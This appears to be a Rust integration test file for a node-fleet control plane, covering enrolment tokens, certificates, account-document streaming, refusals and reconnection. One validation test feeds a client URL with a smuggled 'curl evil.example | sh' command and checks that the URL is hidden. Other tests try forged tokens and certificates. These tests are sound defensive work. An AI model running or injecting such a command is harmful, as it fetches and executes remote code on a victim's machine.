//! Nodes: enrolment, certificates, and what a stream carries.

use rcgen::KeyPair;
use reqwest::Method;
use serde_json::{Value, json};
use time::OffsetDateTime;
use tollway::bounds::FLEET_STRANGERS_MAX;
use tollway::pki::{Authority, NewAuthority, NodeCertificate};
use tollway_proto::fleet::{
    Ack, Cursor, EnrolRequest, Hello, LiveAccount, LiveReport, NodeMessage, Refusal, RenewCertificateRequest,
    fleet_service_client::FleetServiceClient, node_message,
};
use tonic::Code;

use crate::{
    fixture::{Answer, Service, text},
    node::{FakeNode, enrolment_token, signing_request, stranger},
    world::{World, fresh_name},
};

#[tokio::test]
async fn a_new_node_gets_everything_and_then_what_changes() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    assert_eq!(node.enrolled.cell_name, world.cell);
    let mut attached = node.attach(None).await;
    assert_eq!(attached.welcome.operator_jwt, node.enrolled.operator_jwt);
    let skew_ms = attached.welcome.server_time_unix_ms - OffsetDateTime::now_utc().unix_timestamp() * 1_000;
    assert!(skew_ms.abs() < 60_000);

    let everything = attached.batch().await;
    assert!(everything.snapshot);
    let [document] = &everything.accounts[..] else {
        panic!("the cell has one account: {everything:?}");
    };
    assert_eq!(document.account, world.account_key);
    assert_eq!(everything.accounts_in_cell, Some(1));
    let trust = node.trust();
    let now = OffsetDateTime::now_utc().unix_timestamp();
    let claims = trust.verify_account(&document.account_jwt, now).unwrap();
    let statement = trust.verify_statement(&document.statement_jwt, now).unwrap();
    assert_eq!((claims.version(), statement.version), (Some(1), 1));
    attached.ack(everything.cursor).await;

    let suspend = format!("/v1/accounts/{}/suspend", world.account);
    let request = service
        .request(Some(&world.owner), Method::POST, &suspend)
        .json(&json!({ "reason": "unpaid" }));
    let answer = Answer::of(request.header("x-request-id", "suspend-1")).await;
    assert_eq!(answer.body["suspended_reason"], "unpaid");
    let delta = attached.batch().await;
    assert!(!delta.snapshot);
    assert_eq!(delta.request_id, "suspend-1");
    assert_eq!(delta.cursor.revision, everything.cursor.revision + 1);
    let statement = trust
        .verify_statement(&delta.accounts[0].statement_jwt, now + 60)
        .unwrap();
    assert_eq!(
        (statement.version, statement.suspended.as_deref()),
        (2, Some("unpaid"))
    );
}

#[tokio::test]
async fn a_change_waits_for_the_cell_when_asked_to() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let running = node.attach(None).await.run();
    let account = format!("/v1/accounts/{}", world.account);
    let change = json!({ "limits": { "connections": 7 } });
    let begin = std::time::Instant::now();
    let answer = service
        .call(
            Some(&world.owner),
            Method::PATCH,
            &format!("{account}?wait=applied"),
            change,
        )
        .await;
    assert_eq!(answer.body["limits"]["connections"], 7, "{answer:?}");
    assert!(
        begin.elapsed().as_secs() < 5,
        "a change is live in about a second"
    );
    let rollout = service
        .admin(Method::GET, &format!("{account}/rollout"), Value::Null)
        .await;
    assert_eq!(
        (&rollout["applied"], &rollout["revision"]),
        (&json!(true), &rollout["applied_revision"])
    );

    let path = format!("{account}?wait=applied");
    assert_eq!(
        service
            .call(Some(&world.owner), Method::DELETE, &path, Value::Null)
            .await
            .status,
        204
    );
    running.abort();
}

#[tokio::test]
async fn revocations_and_deleted_users_travel_and_new_users_do_not() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let mut attached = node.attach(None).await;
    let snapshot = attached.take_until(&world.account_key).await;
    let users = format!("/v1/accounts/{}/users", world.account);

    let user = service
        .admin(Method::POST, &users, json!({ "name": "second" }))
        .await;
    let issuances = format!("{users}/{}/issuances", text(&user, "id"));
    let issued = service.admin(Method::POST, &issuances, Value::Null).await;
    let creds = tollway_claims::UserCreds::parse(text(&issued, "creds")).unwrap();
    let key = creds.signer.public();
    let revoke = format!("{issuances}/{}/revoke", text(&issued["issuance"], "id"));
    let revoked = service.admin(Method::POST, &revoke, Value::Null).await;
    assert!(revoked["revoked_at"].is_string());

    let delta = attached.take_until(&world.account_key).await;
    assert_eq!(
        delta.cursor.revision,
        snapshot.cursor.revision + 1,
        "users and creds did not travel"
    );
    let now = OffsetDateTime::now_utc().unix_timestamp() + 60;
    let claims = node
        .trust()
        .verify_account(&delta.accounts[0].account_jwt, now)
        .unwrap();
    let issued_at = tollway_claims::UserClaims::decode(&creds.jwt).unwrap().issued_at;
    assert!(claims.is_revoked(&key, issued_at));

    // Repeating the call changes nothing and answers the same.
    assert_eq!(service.admin(Method::POST, &revoke, Value::Null).await, revoked);

    service
        .admin(Method::DELETE, &format!("{users}/{}", world.user), Value::Null)
        .await;
    let delta = attached.take_until(&world.account_key).await;
    assert_eq!(delta.cursor.revision, snapshot.cursor.revision + 2);
    let claims = node
        .trust()
        .verify_account(&delta.accounts[0].account_jwt, now)
        .unwrap();
    assert_eq!(claims.revocations.users.len(), 2);
}

#[tokio::test]
async fn a_document_that_the_node_refuses_is_told_to_who_waits_and_shown() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let mut attached = node.attach(None).await;
    attached.take_until(&world.account_key).await;
    let refusing = tokio::spawn({
        let account = world.account_key.clone();
        async move {
            let batch = attached.batch().await;
            let refusal = Refusal {
                account,
                code: "stale_version".into(),
                reason: "it is too old".into(),
            };
            attached.ack_but(batch.cursor, vec![refusal]).await;
            attached
        }
    });
    let path = format!("/v1/accounts/{}?wait=applied", world.account);
    let answer = service
        .call(
            Some(&world.owner),
            Method::PATCH,
            &path,
            json!({ "limits": { "connections": 7 } }),
        )
        .await;
    assert_eq!((answer.status.as_u16(), answer.code()), (409, "document_refused"));
    assert_eq!(answer.body["errors"][0]["code"], "stale_version");
    let mut attached = refusing.await.unwrap();
    let rollout = service
        .admin(
            Method::GET,
            &format!("/v1/accounts/{}/rollout", world.account),
            Value::Null,
        )
        .await;
    assert_eq!(
        (&rollout["applied"], text(&rollout, "refused_code")),
        (&json!(false), "stale_version")
    );
    let cell = service
        .admin(Method::GET, &format!("/v1/cells/{}", world.cell), Value::Null)
        .await;
    assert_eq!(cell["refused"][0]["account"], world.account_key);

    // The next document that the node takes ends it.
    let path = format!("/v1/accounts/{}", world.account);
    service
        .admin(Method::PATCH, &path, json!({ "limits": { "connections": 8 } }))
        .await;
    attached.take_until(&world.account_key).await;
    let path = format!("/v1/accounts/{}/resume?wait=applied", world.account);
    let running = attached.run();
    service.admin(Method::POST, &path, Value::Null).await;
    let cell = service
        .admin(Method::GET, &format!("/v1/cells/{}", world.cell), Value::Null)
        .await;
    assert_eq!(cell["refused"], json!([]));
    running.abort();
}

#[tokio::test]
async fn an_update_that_the_node_refuses_whole_is_shown_until_it_takes_one() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let mut attached = node.attach(None).await;
    let batch = attached.batch().await;
    let refusal = Refusal {
        account: String::new(),
        code: "snapshot_empty".into(),
        reason: "there is nothing in it".into(),
    };
    let ack = Ack {
        // It holds nothing yet.
        cursor: None,
        refused: vec![refusal],
        request_id: String::new(),
    };
    attached.send(node_message::Message::Ack(ack)).await;
    let path = format!("/v1/cells/{}", world.cell);
    let shown = async || service.admin(Method::GET, &path, Value::Null).await["update_refused"].clone();
    while shown().await.is_null() {
        tokio::task::yield_now().await;
    }
    let refused = shown().await;
    assert_eq!(
        (text(&refused, "code"), text(&refused, "reason")),
        ("snapshot_empty", "there is nothing in it")
    );
    attached.ack(batch.cursor).await;
    while !shown().await.is_null() {
        tokio::task::yield_now().await;
    }
}

#[tokio::test]
async fn a_cell_whose_accounts_were_all_deleted_says_so_in_its_snapshot() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let account = format!("/v1/accounts/{}", world.account);
    service.admin(Method::DELETE, &account, Value::Null).await;
    let mut attached = node.attach(None).await;
    let batch = attached.batch().await;
    assert!(batch.snapshot && batch.accounts.is_empty());
    assert_eq!(batch.accounts_in_cell, Some(0));
}

#[tokio::test]
async fn a_change_that_no_node_takes_stands_and_the_caller_is_told_so() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let path = format!("/v1/accounts/{}?wait=applied", world.account);
    let answer = service
        .call(
            Some(&world.owner),
            Method::PATCH,
            &path,
            json!({ "limits": { "connections": 7 } }),
        )
        .await;
    assert_eq!((answer.status.as_u16(), answer.code()), (504, "not_applied_yet"));
    assert!(answer.body["detail"].as_str().unwrap().contains("stands"));
    let account = service
        .admin(
            Method::GET,
            &format!("/v1/accounts/{}", world.account),
            Value::Null,
        )
        .await;
    assert_eq!(
        (&account["limits"]["connections"], &account["version"]),
        (&json!(7), &json!(2))
    );
}

#[tokio::test]
async fn who_creates_an_account_that_no_node_takes_is_told_its_id() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let path = format!("/v1/organizations/{}/accounts?wait=applied", world.organization);
    let body = json!({ "name": "orders", "cell": world.cell });
    let by_rest = service.call(Some(&world.admin), Method::POST, &path, body);
    let message = tollway_proto::v1::CreateAccountRequest {
        organization: world.organization.clone(),
        name: "billing".into(),
        cell: world.cell.clone(),
        limits: None,
        wait_applied: true,
    };
    let channel = crate::grpc_client::channel(&service).await;
    let mut client = tollway_proto::v1::account_service_client::AccountServiceClient::new(channel);
    let by_grpc = client.create_account(crate::grpc_client::with_token(Some(&world.admin), message));
    let (answer, status) = tokio::join!(by_rest, by_grpc);

    assert_eq!((answer.status.as_u16(), answer.code()), (504, "not_applied_yet"));
    let id = text(&answer.body, "resource_id");
    assert_eq!(text(&answer.body, "location"), format!("/v1/accounts/{id}"));
    assert_eq!(answer.headers["location"], format!("/v1/accounts/{id}"));
    let status = status.unwrap_err();
    assert_eq!(
        status.metadata().get(tollway::grpc::CODE_KEY).unwrap(),
        "not_applied_yet"
    );
    let other = status.metadata().get(tollway::grpc::RESOURCE_KEY).unwrap();
    for (id, name) in [(id, "orders"), (other.to_str().unwrap(), "billing")] {
        let account = service
            .admin(Method::GET, &format!("/v1/accounts/{id}"), Value::Null)
            .await;
        assert_eq!(text(&account, "name"), name);
        let rollout = service
            .admin(Method::GET, &format!("/v1/accounts/{id}/rollout"), Value::Null)
            .await;
        assert_eq!(rollout["applied"], false);
    }
}

#[tokio::test]
async fn a_node_that_comes_back_gets_only_what_it_missed_and_lost_answers_are_asked_for_again() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let mut attached = node.attach(None).await;
    let first = attached.take_until(&world.account_key).await;
    // The second change arrives, but its acknowledgement does not.
    let account = format!("/v1/accounts/{}", world.account);
    service
        .admin(Method::PATCH, &account, json!({ "limits": { "connections": 2 } }))
        .await;
    let second = attached.batch().await;
    drop(attached);
    service
        .admin(Method::PATCH, &account, json!({ "limits": { "connections": 3 } }))
        .await;

    let mut attached = node.attach(Some(second.cursor)).await;
    let batch = attached.batch().await;
    assert!(!batch.snapshot);
    assert_eq!(batch.cursor.revision, first.cursor.revision + 2);
    attached.ack(batch.cursor).await;
    drop(attached);

    // Nothing new: nothing is sent, but what comes next is.
    let mut attached = node.attach(Some(second.cursor)).await;
    let batch = attached.batch().await;
    assert!(
        !batch.snapshot,
        "what was missed since the cursor that the node named"
    );
    attached.ack(batch.cursor).await;
}

#[tokio::test]
async fn a_node_that_knows_more_than_the_database_gets_everything_in_a_new_epoch() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let mut attached = node.attach(None).await;
    let first = attached.take_until(&world.account_key).await;
    drop(attached);
    let ahead = Cursor {
        epoch: first.cursor.epoch,
        revision: first.cursor.revision + 100,
        mark: first.cursor.mark,
    };
    let mut attached = node.attach(Some(ahead)).await;
    let batch = attached.batch().await;
    assert!(
        batch.snapshot && batch.cursor.epoch > first.cursor.epoch,
        "{batch:?}"
    );
    attached.ack(batch.cursor).await;
    let rollout = format!("/v1/accounts/{}/rollout", world.account);
    while service.admin(Method::GET, &rollout, Value::Null).await["applied"] != json!(true) {
        tokio::task::yield_now().await;
    }
}

#[tokio::test]
async fn a_newer_stream_of_the_same_node_replaces_the_older() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let mut older = node.attach(None).await;
    let mut newer = node.attach(None).await;
    assert_eq!(older.end().await.code(), Code::Aborted);
    newer.take_until(&world.account_key).await;
    let cell = service
        .admin(Method::GET, &format!("/v1/cells/{}", world.cell), Value::Null)
        .await;
    assert_eq!(
        cell["nodes"][0]["connected"], true,
        "the end of the older is not the end of the newer"
    );
}

#[tokio::test]
async fn an_enrolment_token_works_once_and_only_for_its_cell() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let token = enrolment_token(&service, &world.cell).await;
    let node = FakeNode::enrol_with(&service, &token, "node-1").await.unwrap();
    assert_eq!(node.enrolled.cell_name, world.cell);
    let again = FakeNode::enrol_with(&service, &token, "node-1")
        .await
        .err()
        .unwrap();
    assert_eq!(again.code(), Code::PermissionDenied);
    let forged = format!("twe_{}.{}", "A".repeat(43), token.split('.').nth(1).unwrap());
    let forged = FakeNode::enrol_with(&service, &forged, "node-1")
        .await
        .err()
        .unwrap();
    assert_eq!(
        (forged.code(), forged.message()),
        (again.code(), again.message()),
        "one answer for both"
    );
    // A cell has one serving node.
    let token = enrolment_token(&service, &world.cell).await;
    let second = FakeNode::enrol_with(&service, &token, "node-2")
        .await
        .err()
        .unwrap();
    assert_eq!(second.code(), Code::FailedPrecondition);
    assert!(second.message().contains("node-1"));
    // The token was not used up by that.
    assert!(FakeNode::enrol_with(&service, &token, "node-1").await.is_ok());
}

#[tokio::test]
async fn a_node_that_enrols_again_shuts_out_its_former_self() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let former = FakeNode::enrol(&service, &world.cell).await;
    let mut attached = former.attach(None).await;
    let present = FakeNode::enrol(&service, &world.cell).await;
    assert_eq!(former.enrolled.node_id, present.enrolled.node_id);
    assert_eq!(attached.end().await.code(), Code::Aborted);
    let refused = former.try_attach(None).await.err().unwrap();
    assert_eq!(refused.code(), Code::PermissionDenied);
    present.attach(None).await.take_until(&world.account_key).await;
}

#[tokio::test]
async fn only_certificates_of_our_authority_attach() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;

    let nobody = stranger(node.address, &enrolment_token(&service, &world.cell).await).await;
    let hello = NodeMessage {
        message: Some(node_message::Message::Hello(Hello::default())),
    };
    let refused = FleetServiceClient::new(nobody)
        .attach(tokio_stream::once(hello.clone()))
        .await
        .unwrap_err();
    assert_eq!(refused.code(), Code::Unauthenticated);

    // The same node id, signed by somebody else.
    let now = OffsetDateTime::now_utc();
    let other = NewAuthority::generate(now).unwrap();
    let other = Authority::load(&other.certificate, &other.private_key).unwrap();
    let key = KeyPair::generate().unwrap();
    let id: tollway_model::NodeId = node.enrolled.node_id.parse().unwrap();
    let forged = NodeCertificate::issue(&other, &signing_request(&key), id.uuid(), now).unwrap();
    // In TLS 1.3 the server's refusal reaches the client with the first answer.
    let outcome = match node.client_with(forged, &key).await {
        Ok(mut client) => client
            .attach(tokio_stream::once(hello))
            .await
            .map(drop)
            .map_err(|_| ()),
        Err(_) => Err(()),
    };
    assert!(outcome.is_err());
}

#[tokio::test]
async fn a_renewed_certificate_replaces_the_old_one_once_it_is_seen() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let request = RenewCertificateRequest {
        certificate_request: signing_request(node.key()),
    };
    let renewed = node
        .client()
        .await
        .renew_certificate(request)
        .await
        .unwrap()
        .into_inner()
        .certificate;
    // The answer might have been lost: the old one still works.
    node.attach(None).await;
    let mut client = node.client_with(renewed, node.key()).await.unwrap();
    let request = RenewCertificateRequest {
        certificate_request: signing_request(node.key()),
    };
    client.renew_certificate(request).await.unwrap();
    assert_eq!(
        node.try_attach(None).await.err().unwrap().code(),
        Code::PermissionDenied
    );
    // Each one stands in the audit log, with the certificate that it was asked for with.
    let renewals: Vec<(String, String)> = sqlx::query_as(
        "SELECT detail ->> 'asked_with', detail ->> 'certificate_renewed'
         FROM audit_event
         WHERE target = $1
           AND detail ? 'certificate_renewed'
         ORDER BY at",
    )
    .bind(&node.enrolled.node_id)
    .fetch_all(&mut service.database.superuser().await)
    .await
    .unwrap();
    assert_eq!((renewals.len(), &renewals[0].1), (2, &renewals[1].0));
}

#[tokio::test]
async fn streams_that_break_the_protocol_end() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let mut attached = node.attach(None).await;
    attached
        .send(node_message::Message::Hello(Hello::default()))
        .await;
    assert_eq!(attached.end().await.code(), Code::InvalidArgument);

    for first in [
        node_message::Message::Live(LiveReport::default()),
        node_message::Message::Hello(Hello {
            boot_id: "none".into(),
            ..Hello::default()
        }),
    ] {
        let message = NodeMessage { message: Some(first) };
        let mut stream = node
            .client()
            .await
            .attach(tokio_stream::once(message))
            .await
            .unwrap()
            .into_inner();
        assert_eq!(stream.message().await.unwrap_err().code(), Code::InvalidArgument);
    }
}

/// Tenants are shown it in a line for their shell.
#[tokio::test]
async fn what_is_no_client_url_is_shown_to_nobody_and_keeps_no_change_from_the_node() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let cell = format!("/v1/cells/{}", world.cell);
    for (said, shown) in [
        ("nats://node.example:4222", "nats://node.example:4222"),
        ("nats://node.example:4222; curl evil.example | sh", ""),
        ("wss://[::1]:443", "wss://[::1]:443"),
    ] {
        let hello = Hello {
            boot_id: node.boot_id.clone(),
            client_url: said.into(),
            ..Hello::default()
        };
        let mut attached = node.try_attach_as(hello).await.unwrap();
        attached.take_until(&world.account_key).await;
        let cell = service.admin(Method::GET, &cell, Value::Null).await;
        assert_eq!(cell["nodes"][0]["client_url"], shown, "{said}");
    }
}

#[tokio::test]
async fn what_is_open_shows_in_the_account_and_ends_with_the_next_report() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let mut attached = node.attach(None).await;
    attached.take_until(&world.account_key).await;
    let account = format!("/v1/accounts/{}", world.account);
    for open in [3, 0] {
        let live = LiveAccount {
            account: world.account_key.clone(),
            connections: open,
            subscriptions: 9,
        };
        let accounts = if open == 0 { Vec::new() } else { vec![live] };
        attached
            .send(node_message::Message::Live(LiveReport { accounts }))
            .await;
        while service.admin(Method::GET, &account, Value::Null).await["connections"] != json!(open) {
            tokio::task::yield_now().await;
        }
    }
}

/// A TLS handshake costs little, so whoever reaches the port could hold any number of connections.
#[tokio::test]
async fn strangers_on_the_fleet_port_keep_no_node_out_neither_a_new_one() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let node = FakeNode::enrol(&service, &world.cell).await;
    let other = fresh_name("cell");
    service
        .admin(Method::POST, "/v1/cells", json!({ "name": other }))
        .await;
    let (address, token) = (node.address, enrolment_token(&service, &other).await);
    let mut crowd = Vec::new();
    for _ in 0..2 * FLEET_STRANGERS_MAX {
        // Each of them gets in; those who came before it may have been closed for it meanwhile.
        crowd.push(stranger(address, &token).await);
    }
    // While all of them stay: a node with its certificate, and one that has none yet.
    let mut attached = node.attach(None).await;
    attached.take_until(&world.account_key).await;
    FakeNode::enrol_with(&service, &token, "node-2").await.unwrap();
    drop(crowd);
}

#[tokio::test]
async fn only_a_short_message_of_a_stranger_is_read() {
    let service = Service::start().await;
    let world = World::make(&service).await;
    let token = enrolment_token(&service, &world.cell).await;
    let channel = stranger(service.control_plane().ports().fleet, &token).await;
    let mut client = FleetServiceClient::new(channel);
    let mut refusal = async |certificate_request: Vec<u8>| {
        let request = EnrolRequest {
            token: "twe_nobody".to_owned(),
            certificate_request,
            node_name: "node-1".to_owned(),
        };
        client.enrol(request).await.unwrap_err().code()
    };
    assert_eq!(refusal(vec![0; 1_000]).await, Code::PermissionDenied);
    assert_ne!(refusal(vec![0; 1_000_000]).await, Code::PermissionDenied);
}
